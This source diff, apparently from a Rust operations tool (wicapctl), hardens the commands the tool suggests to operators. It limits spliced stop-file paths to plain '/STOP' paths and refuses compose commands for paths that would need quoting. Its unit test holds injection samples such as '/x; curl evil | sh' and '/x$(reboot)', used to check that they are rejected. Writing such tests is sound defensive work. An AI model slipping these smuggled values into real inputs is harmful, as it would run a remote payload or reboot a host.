@@ -6,7 +6,7 @@ use crate::api::session::SessionPhase;
 use crate::api::stack::{DesiredState, default_host};
 use crate::api::stop::ALL;
 use crate::api::{Severity, elapsed};
-use crate::plan::authorise::{BUDGET, COOLDOWN, PRECONDITION, SESSION};
+use crate::plan::authorise::{BUDGET, COOLDOWN, PRECONDITION, SESSION, TOOL_POLICY};
 use crate::plan::decide::DecisionKind;
 
 use super::picture::{Blocked, NextStep, Picture, Sight, State};
@@ -24,7 +24,7 @@ pub(super) fn step(picture: &Picture) -> NextStep {
             let all = picture.stops.iter().any(|s| s.name == ALL);
             let resume = format!("wicapctl resume {}", if all { "--all" } else { stack });
             // A stop that a stop file has made bears the file's path.
-            match picture.stops.iter().find(|s| is_path(&s.by)) {
+            match picture.stops.iter().find(|s| is_stop_file(&s.by)) {
                 Some(stop) => run(
                     "When the reason for the stop is gone, remove the stop file and take it back:",
                     format!("rm -f {} && {resume}", stop.by),
@@ -60,6 +60,12 @@ pub(super) fn step(picture: &Picture) -> NextStep {
     }
 }
 
+/// Whether a text is the path of a stop file. Whoever stops may call himself anything: no other file becomes part of a command that
+/// removes one.
+fn is_stop_file(text: &str) -> bool {
+    is_path(text) && text.ends_with("/STOP")
+}
+
 /// Whether a text is the path of a file that can be written into a command as it is. Whoever stops may call himself anything.
 fn is_path(text: &str) -> bool {
     text.starts_with('/') && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-".contains(&b))
@@ -79,7 +85,9 @@ fn unknown(picture: &Picture) -> NextStep {
         Sight::EngineSilent => run(format!("See on {host} why the engine does not answer:"), "docker info"),
         Sight::Fresh => run("See what could not be asked:", format!("wicapctl describe stack {}", picture.stack)),
         Sight::Stale | Sight::Never => run(
-            format!("See on {host} whether wicapd runs (pgrep -a wicapd). If it does not, start it there:"),
+            format!(
+                "See on {host} whether wicapd runs (systemctl status wicapd, or pgrep -a wicapd). If it does, wicapctl doctor says what it lacks; if not, start it there, as its service or by hand:"
+            ),
             daemon(host),
         ),
     }
@@ -102,14 +110,15 @@ fn open(picture: &Picture, blocked: &Blocked) -> NextStep {
             run(why, format!("wicapctl why session/{}", waiting.name))
         }
         (SESSION, _, None) => run(format!("To permit {what}, open a session:"), format!("wicapctl session start {stack}")),
-        (SESSION, _, Some(session)) if session.acts() => run(
+        // To end a session ends the soak that runs in it: that is for whoever started it to decide.
+        (SESSION, _, Some(session)) if session.acts() && picture.soaks.is_empty() => run(
             format!(
                 "Session {} does not permit {what}, and a stack has one that acts at a time. For another one:",
                 session.name
             ),
             format!("wicapctl session end {} && wicapctl session start {stack}", session.name),
         ),
-        (SESSION, _, Some(session)) => run(
+        (SESSION, _, Some(session)) if !session.acts() => run(
             format!("Session {} is {:?}. To permit {what}, open one that acts:", session.name, session.mode),
             format!("wicapctl session start {stack}"),
         ),
@@ -117,14 +126,15 @@ fn open(picture: &Picture, blocked: &Blocked) -> NextStep {
             let wait = blocked.until.map_or_else(String::new, |at| age(picture.at, at));
             watch(picture, &format!("Nothing, the gate opens by itself in {wait}. To look on:"))
         }
-        _ => {
+        (gate, ..) => {
+            let how = match gate {
+                TOOL_POLICY => "have a rule in spec.allow of every policy permit it (wicapctl edit policy)",
+                _ => "change what forbids it, as told above",
+            };
             let session = in_force.map_or_else(String::new, |s| format!(" --session {}", s.name));
             let target = if blocked.target.is_empty() { String::new() } else { format!(" --target {}", blocked.target) };
             let command = format!("wicapctl policy explain --stack {stack}{session} --action {}{target}", blocked.action);
-            run(
-                format!("If {what} should be permitted, change what forbids it, as told above. What every gate says:"),
-                command,
-            )
+            run(format!("If {what} should be permitted, {how}. What every gate says:"), command)
         }
     }
 }
@@ -132,7 +142,7 @@ fn open(picture: &Picture, blocked: &Blocked) -> NextStep {
 fn stalled(picture: &Picture) -> NextStep {
     let host = &picture.host;
     if picture.decisions.iter().any(|d| d.overdue) {
-        let why = "The planner does not run. See whether wicapd does (pgrep -a wicapd), or start it:";
+        let why = "The planner does not run. See whether wicapd does (pgrep -a wicapd; wicapctl doctor), or start it, as its service or by hand:";
         return run(why, daemon(host));
     }
     let why =
@@ -150,6 +160,15 @@ fn mending(picture: &Picture) -> NextStep {
     watch(picture, why)
 }
 
+/// Starts a service by hand. Nothing, where a path would have to be quoted.
+fn compose_up(picture: &Picture, service: &str) -> Option<String> {
+    if !is_path(&picture.directory) || !picture.files.iter().all(|file| is_path(&format!("/{file}"))) {
+        return None;
+    }
+    let files: String = picture.files.iter().map(|file| format!(" -f {file}")).collect();
+    Some(format!("cd {} && docker compose -p {}{files} up -d {service}", picture.directory, picture.project))
+}
+
 fn healthy(picture: &Picture) -> NextStep {
     let stack = &picture.stack;
     let grave = picture.incidents.iter().find(|i| i.severity >= Severity::Warning);
@@ -159,8 +178,7 @@ fn healthy(picture: &Picture) -> NextStep {
     }
     if let Some(unmanaged) = picture.services.iter().find(|s| !s.managed && s.as_desired == Some(false)) {
         let why = format!("{} is not managed, and nobody mends it. If it should run:", unmanaged.name);
-        let up = format!("docker compose -p {} up --detach {}", picture.project, unmanaged.name);
-        return run(why, up);
+        return NextStep { why, command: compose_up(picture, &unmanaged.name) };
     }
     let acting = picture.sessions.iter().find(|s| s.acts());
     match (acting, picture.desired) {
@@ -187,13 +205,14 @@ mod tests {
     fn what_somebody_calls_himself_becomes_no_part_of_a_command_unless_it_is_a_plain_path() {
         for (text, expected) in [
             ("/var/lib/wicap/STOP", true),
+            ("/var/lib/wicap/store.redb", false),
             ("ann@host", false),
             ("/x; curl evil | sh", false),
             ("/x$(reboot)", false),
             ("/x\ny", false),
             ("", false),
         ] {
-            assert_eq!(is_path(text), expected, "{text:?}");
+            assert_eq!(is_stop_file(text), expected, "{text:?}");
         }
     }
 }
